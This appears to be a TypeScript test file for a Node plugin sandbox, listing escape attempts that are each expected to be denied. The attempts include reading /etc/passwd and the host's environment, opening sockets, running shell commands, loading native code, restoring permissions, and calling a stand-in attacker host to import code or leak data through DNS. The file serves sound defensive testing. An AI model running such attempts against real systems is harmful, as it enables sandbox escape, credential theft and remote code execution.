import { type Attack, attempt, DENIED } from './attack.ts';

const imports = (module: string, use: string) => attempt(`const m = await import('node:${module}'); ${use}`);
/** A connection attempt to a port of this machine that listens (or not): refused before it is made. */
const socket = (open: string) =>
  `return await new Promise((resolve, reject) => { const s = ${open}; s.on('error', reject); s.on('connect', () => resolve('connected')); })`;

/** Files, network, processes, native code: what Node could do, and the process of a plugin must not. */
export const reachingOut: readonly Attack[] = [
  { name: 'reads /etc/passwd', run: imports('fs', `return m.readFileSync('/etc/passwd', 'utf8')`), result: DENIED },
  {
    name: 'reads /etc/passwd by promise',
    run: imports('fs/promises', `return await m.readFile('/etc/passwd', 'utf8')`),
    result: DENIED,
  },
  {
    name: 'reads /etc/passwd as a blob',
    run: imports('fs', `return await (await m.openAsBlob('/etc/passwd')).text()`),
    result: DENIED,
  },
  {
    name: 'reads /etc/passwd through a stream',
    run: imports(
      'fs',
      `const parts = []; for await (const part of m.createReadStream('/etc/passwd')) parts.push(part); return parts.join('')`,
    ),
    result: DENIED,
  },
  {
    name: 'reads the environment of the host',
    run: imports('fs', `return m.readFileSync('/proc/' + process.ppid + '/environ', 'utf8')`),
    result: DENIED,
  },
  {
    name: 'reads its own process in /proc',
    run: imports('fs', `return m.readFileSync('/proc/self/maps', 'utf8')`),
    result: DENIED,
  },
  {
    name: "reads the host's code",
    run: imports(
      'fs',
      `return m.readFileSync(${JSON.stringify(new URL('../tier.ts', import.meta.url).pathname)}, 'utf8')`,
    ),
    result: DENIED,
  },
  {
    name: "imports the host's code",
    run: attempt(
      `return Object.keys(await import(${JSON.stringify(new URL('../../plugin-host.ts', import.meta.url).href)}))`,
    ),
    result: DENIED,
  },
  { name: 'lists the root', run: imports('fs', `return m.readdirSync('/')`), result: DENIED },
  {
    name: 'climbs out of its folder',
    run: imports('fs', `return m.readFileSync(process.cwd() + '/../../etc/passwd', 'utf8')`),
    result: DENIED,
  },
  { name: 'changes its folder', run: attempt(`process.chdir('/'); return process.cwd()`), result: DENIED },
  {
    name: 'writes into its folder',
    run: imports('fs', `m.writeFileSync(process.cwd() + '/x', 'x'); return 'written'`),
    result: DENIED,
  },
  {
    name: 'makes a link to a file outside',
    run: imports(
      'fs',
      `m.symlinkSync('/etc/passwd', process.cwd() + '/p'); return m.readFileSync(process.cwd() + '/p', 'utf8')`,
    ),
    result: DENIED,
  },
  {
    name: 'opens a database file anywhere',
    run: imports('sqlite', `new m.DatabaseSync('/tmp/owned-by-a-plugin.db'); return 'opened'`),
    codes: [],
    result: ['refused', 'TypeError'],
  },
  {
    name: 'opens a database through getBuiltinModule',
    run: attempt(
      `const { DatabaseSync } = process.getBuiltinModule('node:sqlite'); new DatabaseSync('/tmp/owned-by-a-plugin.db'); return 'opened'`,
    ),
    result: ['refused', 'TypeError'],
  },
  {
    name: 'opens a database through require',
    run: imports(
      'module',
      `const { DatabaseSync } = m.createRequire(process.cwd() + '/x.js')('node:sqlite'); new DatabaseSync('/tmp/owned-by-a-plugin.db'); return 'opened'`,
    ),
    result: ['refused', 'TypeError'],
  },
  { name: 'opens a socket', run: imports('net', socket(`m.connect(5432, '127.0.0.1')`)), result: DENIED },
  { name: 'opens a TLS socket', run: imports('tls', socket(`m.connect(5432, '127.0.0.1')`)), result: DENIED },
  { name: 'opens a local socket', run: imports('net', socket(`m.connect('/tmp/.s.PGSQL.5432')`)), result: DENIED },
  {
    name: 'listens',
    run: imports(
      'net',
      `return await new Promise((resolve, reject) => m.createServer().on('error', reject).listen(0, () => resolve('listening')))`,
    ),
    result: DENIED,
  },
  {
    name: 'sends a datagram',
    run: imports(
      'dgram',
      `return await new Promise((resolve, reject) => { const s = m.createSocket('udp4'); s.on('error', reject); s.send('x', 53, '127.0.0.1', (error) => error ? reject(error) : resolve('sent')); })`,
    ),
    result: DENIED,
  },
  {
    name: 'looks a name up',
    run: imports('dns/promises', `return (await m.lookup('localhost')).address`),
    result: DENIED,
  },
  {
    name: 'asks a name server',
    run: imports('dns/promises', `return await m.resolve4('secret.attacker.example')`),
    result: DENIED,
  },
  {
    name: 'speaks HTTP',
    run: imports(
      'http',
      `return await new Promise((resolve, reject) => m.get('http://127.0.0.1:5432', resolve).on('error', reject))`,
    ),
    result: DENIED,
  },
  { name: 'speaks HTTP/2', run: imports('http2', socket(`m.connect('http://127.0.0.1:5432')`)), result: DENIED },
  {
    name: 'fetches',
    run: attempt(`try { return await fetch('http://127.0.0.1:5432') } catch (error) { throw error.cause ?? error }`),
    result: DENIED,
  },
  {
    name: 'opens a WebSocket',
    run: attempt(
      `return await new Promise((resolve, reject) => { const w = new WebSocket('ws://127.0.0.1:5432'); w.onopen = () => resolve('open'); w.onerror = () => reject(new TypeError('closed')); })`,
    ),
    result: DENIED,
  },
  {
    name: 'starts a program',
    run: imports('child_process', `return m.execSync('id')`),
    result: DENIED,
  },
  {
    name: 'becomes another program',
    run: attempt(`process.execve('/bin/sh', ['sh', '-c', 'id'], {}); return 'became'`),
    result: DENIED,
  },
  {
    name: 'starts a thread',
    run: imports('worker_threads', `new m.Worker('1', { eval: true }); return 'started'`),
    result: ['refused', 'TypeError'],
  },
  {
    name: 'loads native code',
    run: attempt(`process.dlopen({ exports: {} }, process.cwd() + '/x.node'); return 'loaded'`),
    result: DENIED,
  },
  {
    name: 'requires native code',
    run: imports('module', `return m.createRequire(process.cwd() + '/x.js')('./x.node')`),
    files: { 'x.node': 'ELF' },
    result: DENIED,
  },
  {
    name: 'calls native code without an addon',
    run: imports('ffi', `return m.dlopen('libc.so.6', {})`),
    codes: [],
    result: DENIED,
  },
  {
    name: 'runs WebAssembly with files',
    run: imports('wasi', `new m.WASI({ version: 'preview1', preopens: { '/': '/' } }); return 'opened'`),
    result: ['refused', 'TypeError'],
  },
  { name: 'opens a debugger', run: imports('inspector', `m.open(0); return m.url()`), result: DENIED },
  {
    name: "opens the host's debugger",
    run: attempt(`process._debugProcess(process.ppid); return 'opened'`),
    result: DENIED,
  },
  { name: 'signals the host', run: attempt(`process.kill(process.ppid, 'SIGTERM'); return 'sent'`), result: DENIED },
  {
    name: 'signals the host underneath',
    run: attempt(`process._kill(process.ppid, 15); return 'sent'`),
    result: DENIED,
  },
  {
    name: 'slows the host down',
    run: imports('os', `m.setPriority(process.ppid, 19); return 'slowed'`),
    result: DENIED,
  },
  { name: "reaches Node's bindings", run: attempt(`return process.binding('tcp_wrap')`), result: DENIED },
  { name: 'reaches linked bindings', run: attempt(`return process._linkedBinding('tcp_wrap')`), result: DENIED },
  { name: 'hunts in process.env', run: attempt(`return JSON.stringify(process.env)`), result: ['got', '{}'] },
  {
    name: 'asks for a report of the machine',
    run: attempt(`return process.report.getReport().header.host`),
    result: ['refused', 'TypeError'],
  },
  {
    name: 'sets flags of V8',
    run: imports('v8', `m.setFlagsFromString('--allow-natives-syntax'); return 'set'`),
    result: DENIED,
  },
  {
    name: 'registers module hooks to get at what is closed',
    run: imports(
      'module',
      `m.registerHooks({ resolve: (specifier, context, next) => specifier === 'x' ? { url: 'node:sqlite', format: 'builtin', shortCircuit: true } : next(specifier, context) }); const { DatabaseSync } = await import('x'); new DatabaseSync('/tmp/owned-by-a-plugin.db'); return 'opened'`,
    ),
    result: ['refused', 'TypeError'],
  },
  {
    name: 'finds the closed modules in the cache',
    run: imports('module', `return Object.keys(m.Module._cache).some((path) => path.includes('sqlite'))`),
    result: ['got', 'false'],
  },
  {
    name: 'gives itself its permissions back',
    run: attempt(
      `process.permission.has = () => true; return process.getBuiltinModule('fs').readFileSync('/etc/passwd', 'utf8')`,
    ),
    result: DENIED,
  },
  {
    name: 'imports code from the network',
    run: attempt(`return await import('https://attacker.example/x.js')`),
    result: ['refused', 'ERR_UNSUPPORTED_ESM_URL_SCHEME'],
  },
  { name: 'changes its user', run: attempt(`process.setuid(0); return process.getuid()`), result: DENIED },
];
